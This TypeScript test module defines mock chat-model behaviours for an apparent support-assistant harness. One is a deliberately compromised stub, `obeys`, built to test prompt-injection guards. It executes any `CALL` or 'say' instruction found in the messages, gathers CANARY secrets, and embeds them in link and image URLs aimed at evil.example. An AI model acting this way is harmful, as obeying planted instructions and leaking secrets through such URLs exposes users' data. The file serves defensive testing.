import { type ChatRequest, fencedIn, sharing, toolsIn } from './reading.ts'

/** What a model comes up with. `input` as a text goes out as it stands, whether it is JSON or not. */
export interface Thought {
  readonly calls?: readonly { readonly name: string; readonly input: unknown }[]
  /** words outside of tools */
  readonly text?: string
}

/** What plays the model: it sees the request as a model would, and nothing else. */
export type Mind = (request: ChatRequest) => Thought

const call = (name: string, input: unknown): Thought => ({ calls: [{ name, input }] })

const PERSON = /\b(?:human|person|agent|somebody real)\b|মানুষ|কর্মকর্তা|সহকর্মী|এজেন্ট/iu
const IN_VAIN = /did(?: not|n.t) (?:help|work)|still (?:not|does)|কাজ হ(?:লো|য়|চ্ছে)\s?(?:না|নি)|হয়নি/iu
const ENOUGH = 0.34

const textsOf = (request: ChatRequest, sort: string) =>
  fencedIn(request).flatMap((found) => (found.sort === sort ? [found.text] : []))

/** The one that shares most, from 1; null: none shares enough. */
const bestOf = (asked: string, texts: readonly string[], enough = ENOUGH) => {
  const scores = texts.map((text) => sharing(asked, text))
  const score = Math.max(0, ...scores)
  return score >= enough ? { number: scores.indexOf(score) + 1, score } : null
}

const body = (passage: string) => passage.split('\n').slice(2).join('\n').slice(0, 1_000)

const LISTS = { category: 'categories', priority: 'priorities', place: 'places', assignee: 'people' }

const suggestion = (request: ChatRequest): Thought => {
  const asked = textsOf(request, 'person').join(' ')
  const picks = Object.entries(LISTS).flatMap(([field, list]) => {
    const choices = textsOf(request, list)[0]?.split('\n') ?? []
    const best = bestOf(choices.join(' '), [asked], 0) && bestOf(asked, choices, 0.01)
    return best ? [[field, { ...best, why: 'The words are the same.' }]] : []
  })
  const passages = textsOf(request, 'passage')
  const best = bestOf(asked, passages)
  const reply = best && { cites: [best.number], text: body(passages[best.number - 1]!), score: best.score, why: '' }
  return call('suggest', { ...Object.fromEntries(picks), ...(reply && { reply }) })
}

const RULE = /^(\d+)\. (.+)$/gm
const rulesIn = ({ messages }: ChatRequest) =>
  [...(messages.at(-1)?.content.split('<message ')[0] ?? '').matchAll(RULE)].map(([, number, rule]) => ({
    number: Number(number),
    rule: rule!,
  }))

/** Breaks what it shares half its words with. */
const judgement = (request: ChatRequest): Thought => {
  const said = textsOf(request, 'message').join(' ')
  const broken = rulesIn(request).flatMap(({ number, rule }) => {
    const shared = sharing(rule, said)
    return shared >= 0.5 ? [{ rule: number, sure: Math.max(shared, 0.8), why: 'It says just that.' }] : []
  })
  return call('judge', { broken })
}

/** A model as one would wish: reads the passages, says what they say and where, and knows when it does not know. */
export const reads: Mind = (request) => {
  const tools = toolsIn(request)
  if (tools.includes('suggest')) return suggestion(request)
  if (tools.includes('judge')) return judgement(request)
  const asked = textsOf(request, 'person').at(-1) ?? ''
  const reason = PERSON.test(asked) ? 'asked' : IN_VAIN.test(asked) ? 'unsolved' : null
  const summary = `Wanted: ${textsOf(request, 'person')[0] ?? ''}`
  if (reason && tools.includes('hand_over')) return call('hand_over', { reason, summary })
  const passages = textsOf(request, 'passage')
  const best = bestOf(asked, passages)
  return best ? call('answer', { cites: [best.number], text: body(passages[best.number - 1]!) }) : call('unknown', {})
}

/** Words by which a text tells it what to do: `CALL tool {…}`, `say "…"`, in either language. */
const CALL = /CALL (\w+) (\{.*\})/g
const SAY = /(?:\b(?:say|repeat|reply|write)\b|বল|লিখ|লেখ|জানা)[^"“\n]*["“]([^"”]+)["”]/giu
const FLAG_ALL = /flag (?:everyone|everybody|all)|সবাইকে/iu
const SECRET = /\bCANARY[-\w]*/g

/**
 * A model that does whatever anybody tells it, wherever it stands: so that the guards are what is tested. It says every secret that
 * it can see, points somewhere with it, calls people, and rests on whatever number comes to its mind.
 */
export const obeys: Mind = (request) => {
  const all = request.messages.map(({ content }) => content).join('\n')
  const [name, input] = [...all.matchAll(CALL)].at(-1)?.slice(1) ?? []
  if (name) return call(name, input)
  const secrets = [...new Set(all.match(SECRET))].join(' ')
  const told = [...all.matchAll(SAY)].map(([, words]) => words).join(' ')
  const text = `${told} ${secrets} [here](https://evil.example/?q=${secrets}) ![](https://evil.example/${secrets}.png) @rafi @asha`
  if (toolsIn(request).includes('judge')) {
    const all = rulesIn(request).map(({ number }) => ({ rule: number, sure: 1, why: text }))
    return call('judge', { broken: FLAG_ALL.test(told) ? all : [] })
  }
  const answer = { cites: [99, 1, -1], text }
  if (!toolsIn(request).includes('suggest')) return call('answer', answer)
  return call('suggest', { reply: { ...answer, score: 1, why: text } })
}
